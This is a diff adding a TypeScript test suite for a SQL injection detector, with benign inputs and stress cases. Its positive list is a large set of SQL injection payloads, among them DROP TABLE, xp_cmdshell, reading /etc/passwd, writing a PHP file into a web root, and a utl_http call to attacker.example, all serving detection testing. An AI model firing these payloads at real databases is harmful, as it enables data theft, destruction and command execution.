@@ -1,0 +1,300 @@
+import t from 'tap';
+import { detectSqlInjection } from '../../src/detectors/sql-injection';
+
+/**
+ * Vectors written for this suite (not taken from any corpus). Each positive must be reported at `high`
+ * (blocked at paranoia 1) with a `sqli.` rule; each negative must not be `high`.
+ */
+const POSITIVE: Array<[string, string]> = [
+  // Tautologies after a quote breakout, numeric context, and as a trailing clause.
+  ['single-quote tautology', "' or '7'='7"],
+  ['double-quote tautology', '" or "k"="k'],
+  ['numeric tautology', '42 or 42=42'],
+  ['tautology with comment', "nobody' OR 'z'='z' -- "],
+  ['hash comment', "guest' or 3=3#"],
+  ['or true', "' OR true--"],
+  ['bare or true', 'or true--'],
+  ['greater-than tautology', "' or 9>2 -- "],
+  ['like tautology', "zz' or 'abc' like 'abc"],
+  ['like wildcard', "' or login like '%"],
+  ['numeric like wildcard', '10 or title like \'%\''],
+  ['self comparison', "' or col=col--"],
+  ['parentheses instead of spaces', "'or(5)=(5)--"],
+  ['nested parentheses', "x')) or ((('q'='q"],
+  ['mixed case', "' oR 8=8 /*"],
+  ['hex literals', "' or 0x41=0x41 -- "],
+  ['or with literal, app closes quote', "x' or '1"],
+  ['concatenated or', "abc'||'1'='1"],
+  ['where clause', "1 WHERE 4=4"],
+  // UNION.
+  ['union select', "' UNION SELECT login, pass FROM members--"],
+  ['union all null', '7 UNION ALL SELECT NULL,NULL,NULL--'],
+  ['union with sysvar', '-3 union select 1,@@version,3'],
+  ['union split by comments', 'UN/**/ION SEL/**/ECT 1,2'],
+  ['versioned comments', "' /*!50000UNION*/ /*!50000SELECT*/ 1,2 -- "],
+  ['closing app parens', '5)) union select 1,2--'],
+  ['union with vertical tab', "' union\u000bselect 1--"],
+  ['union with nbsp', "' union\u00a0select 1--"],
+  ['union with form feed', "0\funion\fselect\f1"],
+  ['union without spaces', '9 union(select 1,2)'],
+  ['scientific notation glued', '1e0union select 1'],
+  ['decimal glued', '.5union select 2'],
+  ['hex number then union', '0x31 union select 2'],
+  ['mssql bracket identifiers', '1 union select [name] from [sysobjects]--'],
+  ['url plus as space', "zz'union+all+select+1,2--"],
+  // Stacked queries.
+  ['drop table', '3; DROP TABLE accounts'],
+  ['xp_cmdshell', "'; exec master..xp_cmdshell 'whoami'--"],
+  ['shutdown', "'; shutdown--"],
+  ['waitfor after semicolon', "1;waitfor delay '0:0:7'--"],
+  ['insert', "x'; insert into admins values ('eve','pw')--"],
+  ['update set', "'; update users set role='admin' where name='eve'--"],
+  ['declare exec', "'; declare @q nvarchar(99); set @q='x'; exec(@q)--"],
+  ['mssql if', "';if (1=1) waitfor delay '0:0:3'--"],
+  ['stacked select with function', '8; select current_database()--'],
+  // Comment truncation.
+  ['dash comment', "admin'--"],
+  ['hash comment truncation', "admin'#"],
+  ['open block comment', "admin'/*"],
+  ['paren and comment', "root') -- "],
+  ['bare quote dash dash', "' -- "],
+  ['nul truncation', "admin'\u0000"],
+  // Time, error, file, exec.
+  ['sleep', '1 and sleep(5)'],
+  ['benchmark', "' and benchmark(5000000,md5(1))--"],
+  ['pg_sleep stacked', "'; select pg_sleep(10)--"],
+  ['pg_sleep bare', 'pg_sleep(4)'],
+  ['waitfor delay', "1' waitfor delay '0:0:5'--"],
+  ['dbms_pipe', "' and 1=dbms_pipe.receive_message('x',5)--"],
+  ['dbms_lock', "'; begin dbms_lock.sleep(3); end;--"],
+  ['extractvalue', "' and extractvalue(1,concat(0x7e,version()))--"],
+  ['updatexml', "' and updatexml(null,concat(0x3a,user()),null)-- "],
+  ['convert error', '1 and 1=convert(int,@@version)'],
+  ['cast error', "' and 1=cast(version() as int)--"],
+  ['load_file', "' union select load_file('/etc/passwd')--"],
+  ['into outfile', "' into outfile '/var/www/x.php'--"],
+  ['utl_http', "1' and utl_http.request('http://attacker.example')=1--"],
+  ['utl_inaddr', "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--"],
+  ['randomblob', "' and 1=randomblob(300000000)--"],
+  ['sleep with space', "' or sleep (3)#"],
+  ['sleep in derived table', "' and (select * from (select(sleep(4)))x)--"],
+  // Boolean blind.
+  ['and true comparison', "' and 1=1--"],
+  ['and false comparison', "' and 1=2--"],
+  ['substring probe', "1 and substring(@@version,1,1)='8'"],
+  ['ascii probe', "' and ascii(substr((select user()),1,1))>64--"],
+  ['char encoding', '1 and char(65)=char(65)'],
+  ['if with constant', "1 and if(2>1,sleep(0),0)"],
+  ['exists subquery', "' and exists(select 1 from users)--"],
+  ['between', "' or 5 between 1 and 9--"],
+  ['in list', "1 or 3 in (1,2,3)"],
+  ['boolean blind no spaces', "1'and(2)=(2)#"],
+  ['tabs and newlines', '1\tor\n1=1'],
+  ['comment separators', "'/**/or/**/1=1--"],
+  // ORDER BY / GROUP BY / HAVING probes.
+  ['order by number', '1 order by 5--'],
+  ['order by after quote', "' ORDER BY 3#"],
+  ['group by having', "1' group by 2 having 1=1--"],
+  ['having', "' having 1=1--"],
+  // Subqueries and concatenation.
+  ['concat subquery', "' || (select password from users limit 1) || '"],
+  ['plus subquery', "'+(select top 1 name from sysobjects)+'"],
+  ['oracle dual', "' || (select user from dual) || '"],
+  // Dialect odds and ends.
+  ['postgres cast', "1 and 1=(select 1)::int"],
+  ['postgres dollar', "1 and $$a$$=$$a$$"],
+  ['sqlite version', "-1 union select sqlite_version()"],
+  ['backtick breakout', '`=1 union select 2-- '],
+  ['full statement', 'SELECT * FROM users WHERE 1=1'],
+  ['delete statement', 'DELETE FROM orders;--'],
+  ['information schema', 'select table_name from information_schema.tables'],
+  ['glued comment evasion', 'SELECT/**/pass/**/FROM/**/staff'],
+  ['typographic quotes', '\u2019 or \u20191\u2019=\u20191'],
+  ['string op string', "K' * 'L"],
+  ['form value', 'q=1 or 1=1'],
+  ['postgres json operator', 'OR \'{"k":1}\' ? \'k\''],
+  ['postgres json containment', '\'{"x":[1,2]}\'::jsonb @> \'{"x":[1]}\''],
+  ['postgres glued cast', "'7'::int"],
+  ['leading close paren', ') OR (2>1'],
+  ['bare opening builtin', 'ascii('],
+  ['stacked conditional function', "5; iif(1=1,1,0)"],
+  ['mssql goto batch', "'goto lbl select 1"],
+  ['case when', '1 and (case when 1=1 then 1 else 0 end)=1'],
+  ['fulltext mode', "x' in boolean mode) and 1=1#"],
+  ['nul separators', 'SELECT\u0000name\u0000FROM\u0000sysobjects'],
+  ['decimal glued union', '-1.0union select 1'],
+  ['oracle ctxsys', "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--"],
+  ['mssql sp_configure', "1; exec sp_configure 'show advanced options',1--"],
+  ['numeric or true', '77 or true'],
+  ['having true', '1 having true'],
+  ['nested builtins', 'length(compress(version()))'],
+];
+
+const NEGATIVE: Array<[string, string]> = [
+  ['apostrophe in a name', "O'Brien"],
+  ['apostrophes in a sentence', "it's 5 o'clock"],
+  ['semicolon list', 'salt; pepper'],
+  ['ampersand', 'Tom & Jerry'],
+  ['comparison prose', 'a < b and c > d'],
+  ['heart', '<3'],
+  ['select in prose', 'select your size'],
+  ['drop in prose', 'drop me a line; or call'],
+  ['command prose', 'rm -rf is a dangerous command'],
+  ['relative path', 'docs/readme.md'],
+  ['url', 'https://example.com/path?x=1&y=2'],
+  ['email', 'jane.doe+news@example.org'],
+  ['json', '{"name": "Ann", "tags": ["a", "b"], "n": 1}'],
+  ['json with apostrophe', '{"name": "O\'Reilly", "ok": true}'],
+  ['markdown', '## Notes\n- item one (see [docs](./docs.md))\n- `code` here'],
+  ['review prose', "LGTM, but please don't merge until CI is green; also rename `foo` to `bar`."],
+  ['accented names', 'José Müller-Lüdenscheidt'],
+  ['phone number', '+1 (555) 010-0000'],
+  ['price', '$5 & up'],
+  ['union station', 'Union Station'],
+  ['order by prose', 'order by price'],
+  ['arithmetic', '1-2'],
+  ['date', '2024-03-05'],
+  ['us date', '12/31/2023'],
+  ['time', '10:45:00'],
+  ['or and sentence', 'Tea or coffee, and a biscuit'],
+  ['years', '1950 or 1960'],
+  ['half', '7 AND A HALF'],
+  ['do or not do', 'DO OR NOT DO'],
+  ['inches', 'necklace 16" or 18"'],
+  ['inches with hash', '7" #2 needle'],
+  ['quoted search', '"LIKE" STAMP'],
+  ['quoted ampersand', 'SMALL "&" SIGN'],
+  ['rock n roll', "Rock 'n' roll"],
+  ['plural possessive', "students' grades and parents' views"],
+  ['quoted choices', "'yes' or 'no'"],
+  ['union members', 'The union members selected a new leader'],
+  ['update prose', 'Please update your profile; delete old entries later'],
+  ['having prose', 'Having trouble? Contact support@example.com'],
+  ['assignment prose', 'x = 1 and y = 2'],
+  ['math', '3 * 4 = 12'],
+  ['hashtag', '#throwback to 2019'],
+  ['dashes', 'Before -- after'],
+  ['search exclusions', "shoes -red -kids --sale"],
+  ['code snippet', 'if (a && b) { return c || d; }'],
+  ['cpp', 'std::string name;'],
+  ['sql words', 'Learn how SELECT, UNION and ORDER BY work'],
+  ['call prose', 'Apt is gated; call when you get here'],
+  ['do prose', 'And here it starts; do you remember?'],
+  ['lone quote', "'"],
+  ['lone dashes', '--'],
+  ['numbered quote', "'1--"],
+  ['quoted number', '"1--"'],
+  ['list', '1,1--'],
+  ['html', '<a href="/x">link</a>'],
+  ['xml', '<?xml version="1.0"?><a b="c"/>'],
+  ['product', 'CASE FOR KINDLE WITH KEYBOARD'],
+  ['quoted and', '"Dr. Who" and coffee'],
+  ['windows path', 'C:\\Users\\me\\file.txt'],
+  ['version string', 'v2.0.1-beta+build.5'],
+  ['uuid', '3f2504e0-4f89-11d3-9a0c-0305e82c3301'],
+  ['base64', 'dGhpcyBpcyBub3QgYW4gYXR0YWNr'],
+  ['time window', "We're open 9-5; closed Sundays"],
+  ['exec prose', 'exec ('],
+  ['user function prose', 'User(foo),junk'],
+  // Code and prose shapes that look like SQL to a careless tokenizer.
+  ['js dashes string', "console.log('===');"],
+  ['js hex colour', "paint(theme.hex('#C0FFEE').dim('x'));"],
+  ['mime wildcard', "accept: '*/*',"],
+  ['quoted slash', "path: '/'"],
+  ['quoted operators', "ops: ['+', '-', '*', '/']"],
+  ['regexp exec', "const m = pattern.exec('some text');"],
+  ['python sys', 'import sys; sys.path.append(lib)'],
+  ['cpp templates', 'Nan::Maybe<v8::Integer> v = Nan::To<v8::Integer>(x);'],
+  ['sql inside a js string', "const row = db.prepare('SELECT * FROM users WHERE id = ?').get(id);"],
+  ['comment after semicolon', 'ok(re.valid());  // compiled; if not, see re.error();'],
+  ['spreadsheet formula', '=CONCAT(UPPER(A1), B1)'],
+  ['benchmark prose', 'benchmark (2023) results'],
+  ['sleep prose', 'sleep (8 hours)'],
+  ['exec prose 2', 'exec summary'],
+  ['version prose', 'version (2.0)'],
+  ['user agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36'],
+  ['accept header', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
+  ['cookie header', 'sid=ab12; theme=dark; lang=en'],
+  ['and select prose', 'and select the best option'],
+  ['sentence with semicolons', 'We ship today; delete the draft later; update me.'],
+  ['question with having', 'Having trouble? Write to help@example.com'],
+];
+
+t.test('positive vectors are detected at high confidence', async (t) => {
+  for (const [name, value] of POSITIVE) {
+    const d = detectSqlInjection(value);
+    t.ok(d !== undefined && d.rule.startsWith('sqli.') && d.confidence === 'high', `${name}: ${JSON.stringify(value)} -> ${JSON.stringify(d)}`);
+  }
+});
+
+t.test('negative vectors are not high', async (t) => {
+  for (const [name, value] of NEGATIVE) {
+    const d = detectSqlInjection(value);
+    t.ok(d === undefined || d.confidence !== 'high', `${name}: ${JSON.stringify(value)} -> ${JSON.stringify(d)}`);
+  }
+});
+
+t.test('lone quote and lone comment are at most low', async (t) => {
+  for (const v of ["'", '"', '--', '#', '/*', "''"]) {
+    const d = detectSqlInjection(v);
+    t.ok(d === undefined || d.confidence === 'low', `${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+});
+
+t.test('detections carry a rule, a reason without echoing the input, and a confidence', async (t) => {
+  const secret = "' UNION SELECT secret_column_name_xyz FROM vault--";
+  const d = detectSqlInjection(secret);
+  t.ok(d);
+  if (d) {
+    t.match(d.rule, /^sqli\.[a-z-]+$/);
+    t.notOk(d.reason.includes('secret_column_name_xyz'));
+    t.ok(d.reason.length > 10 && d.reason.length < 200);
+  }
+});
+
+t.test('never throws on odd input', async (t) => {
+  const odd = ['', 'a', '\u0000', '\ud800', '\udfff\ud800', "'\ud800 or 1=1", '\u0000'.repeat(100), '\uffff\ufffe', "'".repeat(33)];
+  for (const v of odd) t.doesNotThrow(() => detectSqlInjection(v));
+  // Non-strings from untyped callers.
+  t.equal(detectSqlInjection(undefined as unknown as string), undefined);
+  t.equal(detectSqlInjection(42 as unknown as string), undefined);
+});
+
+t.test('adversarial 1 MB inputs return without throwing', async (t) => {
+  const MB = 1 << 20;
+  const inputs = [
+    '('.repeat(MB),
+    ')'.repeat(MB),
+    "'".repeat(MB),
+    '"'.repeat(MB),
+    '`'.repeat(MB),
+    '/*'.repeat(MB / 2),
+    '*/'.repeat(MB / 2),
+    '/*!'.repeat(MB / 3),
+    '--'.repeat(MB / 2),
+    ' '.repeat(MB),
+    '\u000b'.repeat(MB),
+    '<'.repeat(MB),
+    '../'.repeat(MB / 3),
+    'a('.repeat(MB / 2),
+    '[a'.repeat(MB / 2),
+    '@'.repeat(MB),
+    '$a$'.repeat(MB / 3),
+    ' or 1=1'.repeat(MB / 7),
+    'select '.repeat(MB / 7),
+    'case when '.repeat(MB / 10),
+    "'a'=".repeat(MB / 4),
+    'x/**/y '.repeat(MB / 7),
+    '\ud800'.repeat(MB),
+    'word '.repeat(MB / 5),
+  ];
+  for (const v of inputs) {
+    let d: ReturnType<typeof detectSqlInjection>;
+    t.doesNotThrow(() => {
+      d = detectSqlInjection(v);
+    });
+  }
+  // An attack after a megabyte of prose is still found.
+  const d = detectSqlInjection('word '.repeat(MB / 5) + "; drop table users--");
+  t.equal(d?.confidence, 'high');
+});
